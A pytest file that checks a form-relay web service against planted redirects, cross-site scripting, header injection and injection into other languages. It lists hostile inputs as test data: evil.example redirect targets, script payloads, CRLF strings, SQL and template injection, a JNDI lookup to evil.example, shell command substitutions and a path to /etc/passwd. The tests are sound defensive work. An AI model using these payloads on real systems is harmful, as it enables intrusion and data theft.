"""Redirects, scripts, headers and other languages that somebody tries to plant."""

import re

import pytest

from tests.kit.client import Answer, Raw, encoded, head, request
from tests.kit.relay import RelayProcess
from tests.kit.upstream import ScriptedUpstream
from tests.web.hostile import FORM_TYPE, HTML, SITE, person
from tests.web.hostile import SOURCES as SOURCES

pytestmark = pytest.mark.usefixtures("no_faults")

# --- redirects ------------------------------------------------------------------------------------

EVIL_TARGETS = [
    "https://evil.example/",
    "//evil.example",
    "///evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http:///evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "https://www.example.com@evil.example/",
    "https://www.example.com.evil.example/",
    "https://www.exаmple.com/",
    "%2f%2fevil.example",
    "/%09/evil.example",
    "https://evil.example\\@www.example.com",
    "\r\nLocation: https://evil.example",
    "?next=https://evil.example",
]
PARAMETERS = ["next", "_next", "redirect", "redirect_uri", "return", "url", "thanks", "_thanks", "continue"]


@pytest.mark.parametrize("target", EVIL_TARGETS)
@pytest.mark.parametrize("source", ["anyones", "thanked"])
def test_nothing_that_is_sent_decides_where_a_browser_goes(
    relay: RelayProcess, source: str, target: str
) -> None:
    fields = dict.fromkeys(PARAMETERS, target) | {"email": person()}
    query = encoded(dict.fromkeys(PARAMETERS, target)).decode()
    spoofed = {"X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"}
    try:
        referer = {"Referer": target.encode("latin-1").decode("latin-1")} if "\r" not in target else {}
    except UnicodeEncodeError:
        referer = {}
    answer = request(
        relay.port,
        "POST",
        f"/submit/{source}?{query}",
        encoded(fields),
        HTML | spoofed | referer | {"Content-Type": FORM_TYPE, "Host": "evil.example"},
    )
    assert answer.status == 303
    location = answer.header("Location") or ""
    if source == "thanked":
        assert location == f"{SITE}/thanks"
    else:
        assert re.fullmatch(r"/receipts/[0-9a-f]{32}", location)


@pytest.mark.parametrize(
    "path", ["//evil.example/..", "//evil.example/%2f..", "/forms//form", "/forms/form/"]
)
def test_no_path_redirects_elsewhere(relay: RelayProcess, path: str) -> None:
    answer = request(relay.port, "GET", path, None, {"Host": "evil.example"})
    assert "evil.example" not in (answer.header("Location") or "") and answer.status in (200, 308, 404)


# --- scripts --------------------------------------------------------------------------------------

PAYLOADS = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "javascript:alert(1)//",
    '"-alert(1)-"',
]


def harmless(answer: Answer) -> None:
    """No payload is markup in this answer."""
    for mark in ("<script>alert", "<img src=x", "<svg onload", "'><", '"><s'):
        assert mark not in answer.text
    kind = answer.header("Content-Type") or ""
    assert kind.startswith(("text/html", "application/json", "application/problem+json", "text/plain"))
    assert answer.header("X-Content-Type-Options") == "nosniff"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_was_typed_comes_back_as_text(relay: RelayProcess, payload: str) -> None:
    fields = {
        "email": payload,
        "phone": payload,
        "first_name": payload,
        "last_name": payload,
        payload: payload,
    }
    page = relay.form(fields, "form", HTML)
    assert page.status == 422
    harmless(page)
    assert "49" not in re.findall(r'value="([^"]*)"', page.text)
    harmless(relay.form(fields, "form"))
    mistake = relay.form({payload: payload}, "form", HTML)
    harmless(relay.get(mistake.header("Location") or "/", HTML))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_paths_queries_and_headers_come_back_as_text(relay: RelayProcess, payload: str) -> None:
    quoted = encoded({"x": payload}).decode()[2:].replace("+", "%20")
    headers = HTML | {
        "User-Agent": payload,
        "Referer": payload,
        "Accept-Language": payload,
        "X-Request-ID": payload,
        "Cookie": payload,
    }
    for path in (
        f"/{quoted}",
        f"/submit/{quoted}",
        f"/receipts/{quoted}",
        f"/forms/{quoted}",
        f"/forms/form?{quoted}",
        f"/forms/form?email={quoted}",
        f"/readyz?{quoted}",
        f"/submit/echo?c={quoted}&t={relay.hook_secret}",
    ):
        answer = relay.get(path, headers)
        if path.startswith("/submit/echo"):
            assert (answer.header("Content-Type") or "").startswith("text/plain")
            assert answer.header("X-Content-Type-Options") == "nosniff"
        else:
            harmless(answer)
        assert payload not in str(answer.headers)


# --- header injection -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["%0d%0aX-Injected:%201", "%0aX-Injected:%201", "%0d", "%E5%98%8A%E5%98%8D"])
def test_no_value_becomes_a_header(relay: RelayProcess, text: str) -> None:
    for path in (f"/forms/form?x={text}", f"/{text}", f"/submit/{text}", f"/receipts/{text}"):
        with Raw(relay.port) as raw:
            answer = raw.send(head("GET", path, HTML)).read(method="GET")
        assert answer.status in (200, 400, 404, 405) and answer.header("X-Injected") is None


@pytest.mark.usefixtures("unharmed")
@pytest.mark.parametrize(
    "line",
    [
        b"Idempotency-Key: a\rX-Injected: 1",
        b"Idempotency-Key: a\x00b",
        b"Origin: https://www.example.com\r X-Injected: 1",
        b"Origin: https://www.example.com\x0bX",
        b"Referer: a\nb",
        b"X-Thing: a\r\n\tfolded",
    ],
)
def test_broken_header_lines_are_refused(relay: RelayProcess, line: bytes) -> None:
    body = encoded({"email": person()})
    start = head("POST", "/submit/form", {"Content-Type": FORM_TYPE, "Content-Length": str(len(body))})
    with Raw(relay.port) as raw:
        raw.send(start[:-2] + line + b"\r\n\r\n" + body)
        answer = raw.read()
    assert 400 <= answer.status < 500 and answer.header("X-Injected") is None


# --- other languages ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "Robert'); DROP TABLE deliveries;--",
        "'--",
        '" OR ""="',
        "{{7*7}}",
        "{{ config }}",
        "{% raw %}",
        "%s%n%x",
        "{0.__class__}",
        "${jndi:ldap://evil.example/a}",
        "$(touch /tmp/owned)",
        "`id`",
        "../../etc/passwd",
        "=cmd|' /C calc'!A0",
        "\\u0041",
        "&lt;b&gt;",
        "<?xml version='1.0'?>",
        "__proto__",
        "Null",
    ],
)
def test_what_other_languages_would_run_is_just_text(
    relay: RelayProcess, upstream: ScriptedUpstream, text: str
) -> None:
    email = person()
    answer = relay.form({"email": email, "first_name": text}, "patient")
    assert answer.status == 201
    (call,) = [a for a in upstream.arrivals if a.profile_id == answer.json["profile"]["id"]]
    assert call.json == {"email": email, "full_name": text}
